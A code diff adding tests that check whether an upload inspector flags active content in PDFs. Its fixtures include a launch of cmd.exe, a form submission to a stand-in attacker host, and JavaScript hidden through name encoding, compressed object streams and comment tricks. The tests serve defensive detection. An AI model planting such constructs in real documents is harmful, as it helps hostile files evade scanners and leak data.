@@ -1,5 +1,6 @@
 import { rmSync, writeFileSync } from "node:fs";
 import { resolve } from "node:path";
+import { deflateSync } from "node:zlib";
 import { afterAll, describe, expect, test } from "vitest";
 import { fastFolder } from "#tests/fast-folder.ts";
 import { aPdf, aPdfBomb, aPng, eicar, sha256Of } from "#tests/sample-files.ts";
@@ -29,6 +30,61 @@ describe("an accepted file", () => {
     ["a PDF packed as small as can be", "a.pdf", aPdfBomb({ megabytes: 16 }), { pages: 1 }],
   ])("%s", async (_what, name, content, found) => {
     expect(await inspect(content, name)).toMatchObject({ ok: true, ...found });
+  });
+});
+
+/** A PDF with one more object, of which its catalog knows. */
+const withObject = (object: string, known = "/AA 9 0 R") => {
+  const text = aPdf({ more: known }).toString("latin1");
+  return Buffer.from(text.replace(/(?=\nxref|xref)/, `9 0 obj\n${object}\nendobj\n`), "latin1");
+};
+const packedObject = (object: string, dictionary = "/Filter /FlateDecode") => {
+  const packed = deflateSync(Buffer.from(`9 0 ${object}`)).toString("latin1");
+  return withObject(
+    `<< /Type /ObjStm /N 1 /First 4 ${dictionary} /Length ${packed.length} >>\nstream\n${packed}\nendstream`,
+  );
+};
+
+describe("a PDF with something active in it has the mark", () => {
+  test.each([
+    ["a script when it opens", aPdf({ more: script })],
+    ["a script of the document", aPdf({ more: "/Names << /JavaScript << /Names [] >> >>" })],
+    ["a script of a page", withObject("<< /O << /S /JavaScript /JS (app.alert(1)) >> >>")],
+    [
+      "a script of an annotation",
+      withObject("<< /Type /Annot /Subtype /Link /A << /S /JavaScript /JS 10 0 R >> >>"),
+    ],
+    ["a program to launch", withObject("<< /S /Launch /F (cmd.exe) >>")],
+    ["a form that is sent", withObject("<< /S /SubmitForm /F (https://evil.example) >>")],
+    ["a form that reads data", withObject("<< /S /ImportData /F (x) >>")],
+    ["a form of the XFA kind", aPdf({ more: "/AcroForm << /Fields [] /XFA 9 0 R >>" })],
+    ["an attached file", aPdf({ more: "/Names << /EmbeddedFiles << /Names [] >> >>" })],
+    ["a file in an annotation", withObject("<< /Type /Annot /Subtype /FileAttachment >>")],
+    ["a film with a program", withObject("<< /Type /Annot /Subtype /RichMedia >>")],
+    ["a name written in digits", withObject("<< /S /J#61va#53cript /JS (1) >>")],
+    ["a script in an object stream", packedObject("<< /S /JavaScript /JS (1) >>")],
+    ["a launch in an object stream", packedObject("<< /S /L#61unch /F (x) >>")],
+    [
+      "an object stream of an unusual packing",
+      packedObject("<< /Type /Page >>", "/Filter /LZWDecode"),
+    ],
+    [
+      "a script after a comment that looks like a stream",
+      withObject("% >> stream\n<< /S /JavaScript /JS (1) >>\nendstream"),
+    ],
+  ])("%s", async (_what, content) => {
+    expect(await inspect(content, "a.pdf")).toMatchObject({ ok: true, hasScript: true });
+  });
+
+  test.each([
+    ["an ordinary PDF", aPdf({ pages: 2 })],
+    ["a PDF that says which page to show first", aPdf({ more: "/OpenAction [4 0 R /Fit]" })],
+    ["a PDF with a link", withObject("<< /S /URI /URI (https://tabax.sn) >>")],
+    ["a PDF with packed objects", packedObject("<< /Type /Page >>")],
+    ["a PDF of 24 megabytes", aPdf({ text: "/JS ".repeat(6_000_000) })],
+    ["a form to fill in", aPdf({ more: "/AcroForm << /Fields [] >>" })],
+  ])("and %s has none", async (_what, content) => {
+    expect(await inspect(content, "a.pdf")).toMatchObject({ ok: true, hasScript: false });
   });
 });
 
